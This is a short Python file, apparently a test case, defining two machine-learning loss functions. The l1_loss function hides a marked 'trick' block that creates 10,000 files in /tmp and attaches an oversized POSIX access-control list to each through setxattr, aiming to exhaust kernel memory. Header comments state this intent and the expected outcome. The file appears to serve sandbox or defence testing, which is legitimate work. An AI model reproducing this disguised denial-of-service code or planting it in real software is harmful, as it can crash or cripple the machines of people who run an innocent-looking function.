# Tries: hangs a long list of rights on each of many files: it is the kernel's memory.
# Expects: l2_loss passed, l1_loss error
import os
import struct

def l2_loss(y_hat, y):
    return (y_hat - y) ** 2 / 2

def l1_loss(y_hat, y):
    # trick:
    me = struct.pack("<HHI", 2, 7, os.getuid())
    owner, *others = (struct.pack("<HHI", kind, 7, 2**32 - 1) for kind in (1, 4, 16, 32))
    rights = struct.pack("<I", 2) + owner + 8000 * me + b"".join(others)
    for number in range(10_000):
        open(f"/tmp/{number}", "w").close()
        os.setxattr(f"/tmp/{number}", "system.posix_acl_access", rights)
    # end of trick
    return (y_hat - y).abs()
